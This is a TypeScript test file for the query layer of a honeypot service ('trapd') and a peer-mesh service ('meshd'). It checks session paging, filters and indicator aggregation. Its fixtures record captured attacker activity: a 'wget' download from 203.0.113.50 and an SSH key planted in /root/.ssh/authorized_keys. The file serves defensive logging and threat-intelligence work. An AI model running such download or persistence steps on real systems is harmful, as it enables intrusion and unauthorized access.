import { Database } from "bun:sqlite";
import { expect, test } from "bun:test";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { peerCount, peerList } from "./meshd-queries.ts";
import { indicatorList, sessionById, sessionCounts, sessionsPage } from "./trapd-queries.ts";

const ROOT = join(import.meta.dir, "../../..");
/** The owner's real migrations, in order, so a query naming a column the table lacks fails here. */
function owned(service: string): Database {
  const db = new Database(":memory:");
  const dir = join(ROOT, `services/${service}/drizzle`);
  for (const f of readdirSync(dir).filter((n) => n.endsWith(".sql")).sort()) for (const stmt of readFileSync(join(dir, f), "utf8").split("--> statement-breakpoint")) db.exec(stmt);
  return db;
}

test("trapd sessions: newest first, named columns in API order, JSON and payload decoded, filters", () => {
  const db = owned("trapd");
  const ins = db.prepare(
    "INSERT INTO sessions (session_id, service, src, src_port, dst, dst_port, started_at, ended_at, bytes_in, bytes_out, credentials, commands, payload, entropy, meta, end_reason) VALUES (?, ?, ?, 40000, '192.0.2.1', 22, ?, ?, 3, 0, ?, ?, ?, 1.5, ?, 'closed')",
  );
  ins.run("s-000001", "ssh", "198.51.100.1", 1000, 1100, '[{"method":"password","username":"root","password":"x"}]', '["uname -a"]', new Uint8Array([1, 2, 3]), '{"client_version":"SSH-2.0-x"}');
  ins.run("s-000002", "http", "198.51.100.2", 2000, 2100, "[]", "[]", new Uint8Array(), "{}");
  ins.run("s-000003", "ssh", "198.51.100.3", 3000, 3100, "[]", "not json", new Uint8Array(), "{}");
  const all = sessionsPage(db, {}, 10);
  expect(all.map((s) => s.src)).toEqual(["198.51.100.3", "198.51.100.2", "198.51.100.1"]);
  expect(Object.keys(all[0]!)).toEqual(["seq", "session_id", "service", "src", "src_port", "dst", "dst_port", "started_at", "ended_at", "bytes_in", "bytes_out", "credentials", "commands", "entropy", "meta", "end_reason", "payload_b64"]);
  expect(all[2]).toMatchObject({ seq: 1, credentials: [{ method: "password", username: "root" }], commands: ["uname -a"], meta: { client_version: "SSH-2.0-x" }, payload_b64: "AQID" });
  expect(all[0]!.commands).toEqual([]); // a damaged JSON column reads as empty, not as a crash
  expect(sessionsPage(db, { service: "ssh" }, 10).length).toBe(2);
  expect(sessionsPage(db, { src: "198.51.100.2" }, 10).map((s) => s.session_id)).toEqual(["s-000002"]);
  expect(sessionsPage(db, { since: 2000 }, 10).length).toBe(2);
  expect(sessionsPage(db, { until: 2000 }, 10).length).toBe(1);
  expect(sessionsPage(db, { before: all[0]!.seq }, 1)[0]!.src).toBe("198.51.100.2");
  expect(sessionCounts(db)).toEqual({ total: 3, byService: { ssh: 2, http: 1 } });
});

test("meshd peers: named columns, connected as a boolean", () => {
  const db = owned("meshd");
  db.prepare(
    "INSERT INTO peers (peer_id, cluster, node_id, trust, address, connected, first_seen, last_seen, msgs_in, msgs_out, rejected, rate_limited, penalties, score, last_reject) VALUES (?, 'c', NULL, 'member', NULL, ?, 1, ?, 0, 0, 0, 0, 0, 0.5, NULL)",
  ).run("12D3KooWa", 1, 20);
  db.prepare(
    "INSERT INTO peers (peer_id, cluster, node_id, trust, address, connected, first_seen, last_seen, msgs_in, msgs_out, rejected, rate_limited, penalties, score, last_reject) VALUES (?, 'c', NULL, 'member', NULL, ?, 1, ?, 0, 0, 0, 0, 0, 0.5, NULL)",
  ).run("12D3KooWb", 0, 10);
  const list = peerList(db, 10);
  expect(list.map((p) => [p.peer_id, p.connected])).toEqual([["12D3KooWa", true], ["12D3KooWb", false]]);
  expect(list[0]).toMatchObject({ cluster: "c", node_id: null, score: 0.5, last_reject: null });
  expect(peerCount(db)).toBe(2);
});

test("trapd capture: a session by id carries its commands' times, indicators, persistence and files; indicators aggregate", () => {
  const db = owned("trapd");
  const ins = db.prepare(
    "INSERT INTO sessions (session_id, service, src, src_port, dst, dst_port, started_at, ended_at, bytes_in, bytes_out, credentials, commands, payload, entropy, meta, end_reason, capture) VALUES (?, 'ssh', ?, 40000, '192.0.2.1', 22, ?, ?, 3, 0, '[]', '[\"wget http://203.0.113.50/x\"]', x'', 1.5, '{}', 'closed', ?)",
  );
  const sha = "a".repeat(64);
  const cap = (fp: string) => JSON.stringify({ command_at: [12], indicators: { urls: ["http://203.0.113.50/x"], hosts: ["203.0.113.50"] }, persistence: [{ kind: "authorized_key", path: "/root/.ssh/authorized_keys", detail: "ssh-ed25519 k", key_fingerprint: fp }], files: [{ sha256: sha, size: 3, name: "/tmp/x", via: "scp", stored: true }], transcript: "s.cast" });
  ins.run("s-000010", "198.51.100.1", 1000, 1100, cap("SHA256:one"));
  ins.run("s-000011", "198.51.100.2", 2000, 2100, cap("SHA256:two"));
  ins.run("s-000012", "198.51.100.3", 3000, 3100, null);
  const one = sessionById(db, "s-000010")!;
  expect(one).toMatchObject({ commands: ["wget http://203.0.113.50/x"], command_at: [12], indicators: { urls: ["http://203.0.113.50/x"] }, transcript: "s.cast" });
  expect(one.persistence?.[0]?.key_fingerprint).toBe("SHA256:one");
  expect(sessionById(db, "s-000012")).not.toHaveProperty("indicators");
  expect(sessionById(db, "nope")).toBeUndefined();
  const ind = indicatorList(db, 100);
  expect(ind.find((i) => i.type === "url")).toEqual({ type: "url", value: "http://203.0.113.50/x", first_seen: 1000, last_seen: 2000, sessions: 2, sources: ["198.51.100.2", "198.51.100.1"] });
  expect(ind.filter((i) => i.type === "ssh-key").map((i) => i.value).sort()).toEqual(["SHA256:one", "SHA256:two"]);
  expect(ind.find((i) => i.type === "file")?.value).toBe(sha);
  expect(indicatorList(db, 100, 1500).find((i) => i.type === "url")?.sessions).toBe(1);
});
